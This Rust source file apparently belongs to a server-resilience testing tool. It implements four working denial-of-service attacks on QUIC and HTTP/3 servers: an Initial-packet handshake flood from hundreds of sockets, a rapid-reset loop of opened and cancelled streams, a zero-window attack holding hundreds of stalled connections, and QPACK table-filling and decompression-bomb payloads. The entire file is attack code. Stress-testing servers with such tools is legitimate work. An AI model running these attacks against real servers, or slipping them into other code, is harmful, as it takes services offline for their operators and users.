//! Attacks over QUIC and HTTP/3: beginnings of connections that nobody follows up, streams that are opened and given
//! up, fields that should fill a table, answers that are not taken.

use std::net::{SocketAddr, UdpSocket};
use std::rc::Rc;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use quinn::crypto::rustls::QuicClientConfig;
use quinn::{ClientConfig, Connection, Endpoint, EndpointConfig, TokioRuntime, TransportConfig, VarInt};
use tokio::time::{sleep, timeout};

use super::strike::{Given, Strike, crowd};
use crate::compare::files::Asset;
use crate::compare::http3::frames;
use crate::compare::identity::{self, Tickets};
use crate::compare::request::Exchange;

/// Sockets that Initials come from.
const SOCKETS: usize = 500;

/// Connections of the other attacks.
const CONNECTIONS: usize = 16;

/// A handshake that takes longer is given up.
const PATIENCE: Duration = Duration::from_secs(3);

/// H3_REQUEST_CANCELLED.
const CANCELLED: VarInt = VarInt::from_u32(0x10c);

/// What a connection's client takes ahead.
fn client(window: Option<u32>) -> Given<ClientConfig> {
    let tls = identity::loading(b"h3", Tickets::Ignored)?;
    let mut transport = TransportConfig::default();
    if let Some(window) = window {
        transport.stream_receive_window(VarInt::from_u32(window)).receive_window(VarInt::from_u32(window));
    }
    let mut config = ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls)?));
    config.transport_config(Arc::new(transport));
    Ok(config)
}

/// Initials from hundreds of addresses and ports, each a handshake of its own that goes no further.
pub(super) async fn initials(strike: Rc<Strike>) {
    if let Err(error) = flood(&strike).await {
        strike.work.borrow_mut().wrong.push(format!("{error:#}"));
    }
}

async fn flood(strike: &Strike) -> Given {
    let sockets: Vec<UdpSocket> = (0..strike.some(SOCKETS))
        .map(|n| {
            let socket = UdpSocket::bind((strike.source(n), 0))?;
            socket.set_nonblocking(true)?;
            Ok(socket)
        })
        .collect::<std::io::Result<_>>()?;
    let (config, mut room) = (client(None)?, vec![0; 2048]);
    while !strike.over() {
        // An endpoint remembers its connections, so none is used for long.
        let mut endpoint = quinn_proto::Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
        for socket in &sockets {
            let now = Instant::now();
            let (_, mut connection) = endpoint.connect(now, config.clone(), strike.address, identity::HOST)?;
            let mut datagram = Vec::new();
            let sent = connection.poll_transmit(now, 1, &mut datagram).context("no Initial")?;
            // A full buffer loses one, as a network would.
            let _ = socket.send_to(datagram.get(..sent.size).unwrap_or_default(), strike.address);
            strike.moved(sent.size, 0);
            strike.asked(1);
            while let Ok(read) = socket.recv(&mut room) {
                strike.moved(0, read);
                // A long header of type 3 is Retry: the server asks for a proof of the address.
                if room.first().is_some_and(|first| first & 0xf0 == 0xf0) {
                    strike.refused(|| "Retry".into());
                }
            }
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

/// A connection from the nth source, its control stream opened with `settings`.
async fn open(strike: &Strike, n: usize, window: Option<u32>, settings: &[u8]) -> Given<(Endpoint, Connection)> {
    if !strike.another() {
        std::future::pending::<()>().await;
    }
    let socket = UdpSocket::bind(SocketAddr::from((strike.source(n), 0)))?;
    let mut endpoint = Endpoint::new(EndpointConfig::default(), None, socket, Arc::new(TokioRuntime))?;
    endpoint.set_default_client_config(client(window)?);
    let connecting = endpoint.connect(strike.address, identity::HOST)?;
    let Ok(connected) = timeout(PATIENCE, connecting).await else {
        strike.work.borrow_mut().unconnected += 1;
        anyhow::bail!("no connection over QUIC");
    };
    let quic = connected.context("QUIC handshake")?;
    let mut control = quic.open_uni().await?;
    control.write_all(settings).await?;
    // It lives as long as the connection.
    let alive = quic.clone();
    tokio::task::spawn_local(async move {
        alive.closed().await;
        drop(control);
    });
    Ok((endpoint, quic))
}

fn request(strike: &Strike, asset: Asset) -> Given<Vec<u8>> {
    let exchange = Exchange {
        authority: strike.authority.clone(),
        path: asset.path(),
        gzip: true,
        tag: None,
        status: 200,
        body: 0,
    };
    frames::request(&exchange)
}

/// Asks and gives up, at once.
pub(super) async fn rapid_reset(strike: Rc<Strike>) {
    crowd(&strike, CONNECTIONS, |strike, n| async move {
        let (_endpoint, quic) = open(&strike, n % 4, None, &frames::CONTROL).await?;
        let ask = request(&strike, Asset::Large)?;
        loop {
            let (mut send, mut receive) = tokio::select! {
                stream = quic.open_bi() => stream?,
                closed = quic.closed() => return Err(closed.into()),
            };
            send.write_all(&ask).await?;
            strike.moved(ask.len(), 0);
            strike.asked(1);
            // Written already, so that the server sees both.
            tokio::task::yield_now().await;
            let _ = send.reset(CANCELLED);
            let _ = receive.stop(CANCELLED);
        }
    })
    .await;
}

/// Answers that are not taken: a window of a few bytes, a hundred streams on each of hundreds of connections.
pub(super) async fn zero_window(strike: Rc<Strike>) {
    crowd(&strike, strike.some(500), |strike, n| async move {
        sleep(Duration::from_millis(2) * u32::try_from(n)?).await;
        let (_endpoint, quic) = open(&strike, n % 50, Some(64), &frames::CONTROL).await?;
        let ask = request(&strike, Asset::Archive)?;
        let mut held = Vec::new();
        loop {
            tokio::select! {
                stream = quic.open_bi() => {
                    let (mut send, receive) = stream?;
                    send.write_all(&ask).await?;
                    send.finish()?;
                    strike.asked(1);
                    held.push(receive);
                }
                closed = quic.closed() => return Err(closed.into()),
            }
        }
    })
    .await;
}

/// Instructions that fill the table of QPACK or make no sense, fields that refer to a table that is not there, and
/// sections that decode to much more than they are.
pub(super) async fn qpack(strike: Rc<Strike>) {
    crowd(&strike, CONNECTIONS, |strike, n| async move {
        let (_endpoint, quic) = open(&strike, n % 4, None, &frames::CONTROL).await?;
        let mut encoder = quic.open_uni().await?;
        // The stream's kind, then a table of 4096 bytes, and a field into it; or noise.
        let mut bytes = vec![0x02];
        if n.is_multiple_of(2) {
            bytes.extend([0x3f, 0xe1, 0x1f]);
            bytes.extend([0x46, b'x', b'-', b'b', b'o', b'm', b'b', 0x7f, 0x81, 0x1e]);
            bytes.extend([b'b'; 4000]);
        } else {
            bytes.extend((0..512).flat_map(|_| strike.random().to_le_bytes()));
        }
        encoder.write_all(&bytes).await?;
        strike.moved(bytes.len(), 0);
        loop {
            let (mut send, mut receive) = tokio::select! {
                stream = quic.open_bi() => stream?,
                closed = quic.closed() => return Err(closed.into()),
            };
            let section = match strike.random() % 3 {
                // Waits for a table that never comes.
                0 => vec![0x05, 0x00, 0x80, 0x80],
                // References, one byte each, to the longest fields of the static table.
                1 => [vec![0, 0], vec![0xc0 | 0x3e; 12_000]].concat(),
                _ => [vec![0, 0], strike.random().to_le_bytes().to_vec()].concat(),
            };
            let length = u16::try_from(section.len())?;
            let ask = [&[1][..], &(1 << 14 | length).to_be_bytes(), &section].concat();
            send.write_all(&ask).await?;
            let _ = send.finish();
            strike.moved(ask.len(), 0);
            strike.asked(1);
            let answer = timeout(Duration::from_millis(200), receive.read_to_end(1 << 20)).await;
            match answer {
                Ok(Ok(answer)) => strike.moved(0, answer.len()),
                Ok(Err(error)) => strike.refused(|| format!("{error}")),
                Err(_) => {}
            }
        }
    })
    .await;
}
